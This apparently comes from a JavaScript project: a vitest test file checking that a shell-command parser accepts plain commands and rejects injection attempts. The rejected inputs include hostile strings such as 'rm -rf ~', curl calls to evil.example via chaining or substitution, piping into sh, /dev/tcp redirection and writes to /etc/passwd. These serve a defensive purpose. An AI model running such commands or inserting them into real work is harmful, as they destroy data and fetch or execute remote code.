import { describe, expect, it } from 'vitest';
import { simpleCommand } from './simpleCommand';

describe('a simple command', () => {
  it.each([
    ['npm install', ['npm', 'install']],
    ['  npm\tinstall  --save-dev left-pad@1.3.0 ', ['npm', 'install', '--save-dev', 'left-pad@1.3.0']],
    [`cp 'a b' "c d"`, ['cp', 'a b', 'c d']],
    [`echo 'it; is && quoted | $(here)'`, ['echo', 'it; is && quoted | $(here)']],
    [`./build.sh --out=dist ''`, ['./build.sh', '--out=dist', '']],
    [`n'p'm inst"all"`, ['npm', 'install']],
  ])('is split as bash does: %s', (line, words) => {
    expect(simpleCommand(line)).toEqual(words);
  });

  it.each([
    'npm install; rm -rf ~',
    'npm install && curl evil.example',
    'npm install || true',
    'npm install & curl evil.example',
    'npm install | sh',
    'npm install |& sh',
    'npm install $(curl evil.example)',
    'npm install `curl evil.example`',
    'npm install "$(curl evil.example)"',
    'npm install "`id`"',
    'npm install $HOME',
    `npm install "${'$'}{HOME}"`,
    "npm install $'\\x3b id'",
    'npm install > /etc/passwd',
    'npm install 2>&1',
    'npm install < /dev/tcp/evil.example/80',
    'npm install <(id)',
    'npm install <<EOF',
    'npm install\nid',
    'npm install\r\nid',
    'npm install\u0000id',
    'npm install\u000bid',
    'npm install\u2028id',
    'npm\u00a0install',
    'npm install \u202egnp',
    "npm 'ins\u200btall'",
    'FOO=bar npm install',
    "'FOO=bar' npm install",
    'PATH=. npm install',
    'a[0]=1 npm install',
    'npm inst\\all',
    'npm install \\',
    'npm install # id',
    'npm ins*',
    'npm install ?',
    'npm {install,exec} x',
    'npm install [a]',
    '~/npm install',
    '(npm install)',
    '{ npm install; }',
    '! npm install',
    'if npm install',
    "'if' npm install",
    'time npm install',
    'coproc npm install',
    '[[ npm ]]',
    'npm install "a',
    "npm install 'a",
    'npm install !!',
    'npm install "!!"',
    "'' npm install",
    '--help',
    '',
    ' \t ',
  ])('is not %j', (line) => {
    expect(simpleCommand(line)).toBeUndefined();
  });
});
